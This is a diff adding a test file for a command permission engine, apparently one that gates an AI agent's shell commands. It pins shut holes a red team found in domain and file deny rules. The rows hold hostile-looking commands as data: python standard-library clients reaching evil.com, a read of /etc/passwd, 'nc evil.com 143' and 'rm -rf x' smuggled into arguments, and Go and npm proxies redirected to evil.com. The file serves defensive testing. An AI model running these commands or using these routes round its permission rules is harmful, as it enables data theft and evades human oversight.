@@ -1,0 +1,90 @@
+// Network reach found by session 40's red team of Domain rules (fetch and shell lines): hosts a
+// line reaches, or files it reads, that a deny rule names while the engine allowed them. Rows pin
+// each hole closed; the ordinary lines beside them keep their decision.
+import { describe } from 'vitest';
+import { lineTable } from './helpers/line-table.js';
+
+const DENY_EVIL = {
+  deny: ['Domain(evil.com)', 'Domain(*.evil.org)', 'Read(//etc/**)', 'Read(**/*.pem)', 'Read(~/.netrc)', 'Shell(rm *)'],
+  allow: ['Shell(*)', 'Read(**)', 'Edit(**)', 'Domain(*)'],
+};
+
+describe('python -m: the standard library network clients connect to the host their command line names', () => {
+  lineTable(DENY_EVIL, [
+    ['python3 -m ftplib evil.com', 'deny'],
+    ['python -m ftplib -d -d a.evil.org', 'deny'],
+    ['python3 -m ftplib -r/etc/passwd github.com', 'deny'],
+    ['python3 -m ftplib github.com', 'deny'],
+    ['python3 -m poplib evil.com user pass', 'deny'],
+    ['python3 -m imaplib evil.com', 'deny'],
+    ['python3 -m imaplib -d 4 evil.com', 'deny'],
+    ['python3 -m imaplib -s "rm -rf x"', 'deny'],
+    ['python3 -m imaplib -s "nc evil.com 143"', 'deny'],
+    ['python3 -m nntplib -s evil.com', 'deny'],
+    ['python3 -m nntplib --server=evil.com -g x', 'deny'],
+    ['python3 -m telnetlib evil.com 80', 'deny'],
+    ['python3 -m telnetlib -d evil.com', 'deny'],
+    ['python2 -m httplib evil.com /', 'deny'],
+    ['python3 -m netrc', 'deny'],
+    ['python3 -m ftplib $HOST', 'ask'],
+    ['python3 -m imaplib $OPTS', 'ask'],
+    ['python3 -m nntplib -S evil.com', 'allow'],
+    ['python3 -m poplib github.com u p', 'allow'],
+    ['python3 -m telnetlib', 'allow'],
+    ['python3 -m http.server', 'ask'],
+  ]);
+});
+
+describe('python -m: a module the analysis has no reader for is read as a script: its words may be files and hosts', () => {
+  lineTable(DENY_EVIL, [
+    ['python3 -m shlex /etc/passwd', 'ask'],
+    ['python3 -m fileinput -i a.pem', 'ask'],
+    ['python3 -m filecmp /etc /tmp', 'ask'],
+    ['python3 -m mymodule evil.com', 'ask'],
+    ['python3 -m mymodule /etc/shadow', 'ask'],
+    ['python2 -m urllib /etc/passwd', 'deny'],
+    ['python2 -m urllib -t', 'deny'],
+    ['python2 -m CGIHTTPServer', 'ask'],
+    ['python3 -m mymodule src/x.py', 'allow'],
+    ['python3 -m calendar 2026', 'allow'],
+    ['python3 -m shlex notes.txt', 'allow'],
+  ]);
+});
+
+describe('mongosh and mongo: a first operand with a dot or a port is the server', () => {
+  lineTable(DENY_EVIL, [
+    ['mongosh evil.com', 'deny'],
+    ['mongosh evil.com:27017', 'deny'],
+    ['mongosh a.evil.org:27017 --quiet', 'deny'],
+    ['mongo evil.com', 'deny'],
+    ['mongosh mydb', 'allow'],
+    ['mongosh script.js', 'allow'],
+    ['mongosh localhost:27017', 'allow'],
+    ['mongosh mydb other.js', 'allow'],
+  ]);
+});
+
+describe('go env -w: the module proxy and checksum database later go commands fetch from', () => {
+  lineTable(DENY_EVIL, [
+    ['go env -w GOPROXY=evil.com', 'deny'],
+    ['go env -w GOPROXY=evil.com/mod,direct', 'deny'],
+    ["go env -w 'GOPROXY=https://proxy.golang.org|a.evil.org'", 'deny'],
+    ['go env -w GONOSUMDB=x GOSUMDB=evil.com+abc+KEY', 'deny'],
+    ['go env -w GOPROXY=$P', 'ask'],
+    ['go env -w GOPROXY=https://proxy.golang.org,direct', 'allow'],
+    ['go env -w GOPROXY=off', 'allow'],
+    ['go env -w GOSUMDB=sum.golang.org', 'allow'],
+    ['go env -u GOPROXY', 'allow'],
+    ['go env GOPROXY', 'allow'],
+  ]);
+});
+
+describe('npm and yarn: --https-proxy and --http-proxy without a scheme, as --proxy is read', () => {
+  lineTable(DENY_EVIL, [
+    ['npm install --https-proxy=evil.com', 'deny'],
+    ['npm install --https-proxy evil.com:8080', 'deny'],
+    ['yarn --http-proxy evil.com add x', 'deny'],
+    ['npm install --https-proxy=proxy.corp.example:8080', 'allow'],
+    ['npm install', 'allow'],
+  ]);
+});
